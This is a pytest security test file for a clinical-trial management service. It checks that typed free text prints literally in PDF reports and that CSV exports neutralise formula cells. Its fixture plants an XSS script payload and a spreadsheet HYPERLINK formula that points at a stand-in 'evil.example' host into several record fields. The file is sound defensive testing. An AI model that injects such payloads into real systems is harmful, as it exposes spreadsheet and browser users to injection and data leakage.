"""Security sweep of the outputs users download: free text typed into the service comes out
of the PDF reports exactly as typed (markup printed, never interpreted, nothing dropped),
and out of the CSV exports as typed too, except that a cell a spreadsheet would run as a
formula (=, +, -, @) is quoted with a leading apostrophe.

Each free-text field carries its own payload (so a failure names the field); the matrix is
every (field, output) pair, checked one by one."""

from __future__ import annotations

import csv
import io

import pytest

from tests.builders import at, days_ago, dose, enrol, world
from tests.factories import PASSWORD, login_page
from tests.reports_helpers import generate, pdf_words, screen
from trialmgr.db import today


def html_payload(field: str) -> str:
    return f"<script>alert('{field}')</script> <b>{field}</b> & \"{field}\" <i>it's</i>"


def formula_payload(field: str) -> str:
    return f'=HYPERLINK("http://evil.example/?{field}","{field}")'


FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture()
def typed(app, api):
    """A pilot whose free text is hostile: HTML in the fields the PDFs print, formulas in
    the fields the CSV exports carry."""
    w = world(api)
    lead, coord, trial, site = w["lead"], w["coord"], w["trial"], w["site"]
    monitor = api.as_role("safety_monitor")
    fields = {}

    def patched(client, path, body):
        resp = client.patch(path, json={**body, "reason": "sweep"})
        assert resp.status_code == 200, resp.json

    fields["trial title"] = html_payload("trial-title")
    patched(lead, f"/trials/{trial['id']}", {"title": fields["trial title"]})
    fields["site name"] = html_payload("site-name")
    patched(lead, f"/sites/{site['id']}", {"name": fields["site name"]})
    subject = enrol(coord, trial, site)
    assert dose(coord, subject, days_ago(30)).status_code == 201
    fields["screen-failure reason"] = html_payload("fail-reason")
    screen(
        coord,
        trial,
        site,
        answers={"I1": True, "E1": True},
        outcome="screen_failed",
        fail_reason=fields["screen-failure reason"],
    )
    fields["adverse-event term"] = html_payload("ae-term")
    ae = {
        "subject_code": subject["code"],
        "soc": "Nervous system disorders",
        "onset_date": days_ago(10).isoformat(),
        "grade": 2,
        "seriousness_criteria": ["hospitalisation"],
        "causality": "unlikely",
        "expected": True,
        "site_awareness_at": at(days_ago(9)),
    }
    resp = coord.post("/adverse-events", json={**ae, "term": fields["adverse-event term"]})
    assert resp.status_code == 201, resp.json
    fields["pause reason"] = html_payload("pause-reason")
    resp = monitor.post(f"/trials/{trial['id']}/pause", json={"reason": fields["pause reason"]})
    assert resp.status_code == 200, resp.json
    resumed = monitor.post(
        f"/trials/{trial['id']}/resume", json={"reason": "reviewed", "password": PASSWORD}
    )
    assert resumed.status_code == 200, resumed.json
    # formulas, for the exports
    formulas = {
        "adverse-event term": formula_payload("ae-term"),
        "screen-failure reason": formula_payload("fail-reason"),
        "partner name": formula_payload("partner"),
        "audit reason": formula_payload("audit-reason"),
    }
    resp = coord.post("/adverse-events", json={**ae, "term": formulas["adverse-event term"]})
    assert resp.status_code == 201, resp.json
    screen(
        coord,
        trial,
        site,
        answers={"I1": False, "E1": False},
        outcome="screen_failed",
        fail_reason=formulas["screen-failure reason"],
    )
    resp = lead.post(
        "/partners",
        json={
            "name": formulas["partner name"],
            "short_name": "EVIL",
            "kind": "laboratory",
            "country": "IT",
        },
    )
    assert resp.status_code == 201, resp.json
    resp = lead.patch(
        f"/partners/{resp.json['id']}",
        json={"short_name": "EVIL2", "reason": formulas["audit reason"]},
    )
    assert resp.status_code == 200, resp.json
    return {**w, "monitor": monitor, "html": fields, "formulas": formulas}


# Which PDF prints which field.
PDF_FIELDS = {
    "dsmb_safety": ["trial title", "adverse-event term", "pause reason"],
    "site_enrollment": ["trial title", "site name", "screen-failure reason"],
    "feasibility": ["trial title"],
}


@pytest.mark.parametrize("kind", sorted(PDF_FIELDS))
def test_pdfs_print_typed_markup_literally(typed, kind):
    # cut off today: the pause was made today
    report = generate(
        typed["lead"], kind=kind, trial_id=typed["trial"]["id"], cut_off=today().isoformat()
    )
    assert report["status"] == "done", report
    pdf = typed["lead"].get(f"/reports/{report['id']}/pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    # narrow table cells wrap long words anywhere: compare without whitespace
    text = "".join(pdf_words(pdf.data).split())
    missing = [
        field for field in PDF_FIELDS[kind] if "".join(typed["html"][field].split()) not in text
    ]
    assert missing == [], f"{kind}: not printed as typed: {missing}"


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def _page_csv(app, user_email, path):
    client = app.test_client()
    assert login_page(client, user_email).status_code == 302
    resp = client.get(path)
    assert resp.status_code == 200 and resp.mimetype == "text/csv", resp.status_code
    return resp.data


# (export, field): where each field comes out as CSV.
CSV_EXPORTS = [
    ("api /screenings/export", "screen-failure reason"),
    ("page /adverse-events/export.csv", "adverse-event term"),
    ("api /partners/export", "partner name"),
    ("api /audit/export", "audit reason"),
]


@pytest.mark.parametrize("export, field", CSV_EXPORTS)
def test_csv_exports_quote_formulas_and_keep_markup(app, api, typed, export, field):
    admin = api.as_role("admin")
    where, path = export.split(" ", 1)
    if where == "api":
        reader = admin if path.startswith("/audit") else typed["lead"]
        if path.startswith("/screenings"):
            reader = typed["coord"]
        resp = reader.get(path)
        assert resp.status_code == 200 and resp.mimetype == "text/csv", resp.status_code
        data = resp.data
    else:
        data = _page_csv(app, typed["coord"].user["email"], path)
    cells = _cells(_rows(data))
    payload = typed["formulas"][field]
    assert "'" + payload in cells, f"{export}: {field} not quoted"
    assert payload not in cells
    # no cell anywhere in the export starts a formula
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not c[1:2].isdigit()]
    html = typed["html"].get(field)
    if html is not None and where == "api" and path.startswith("/screenings"):
        assert html in cells  # markup is data in a CSV: kept exactly
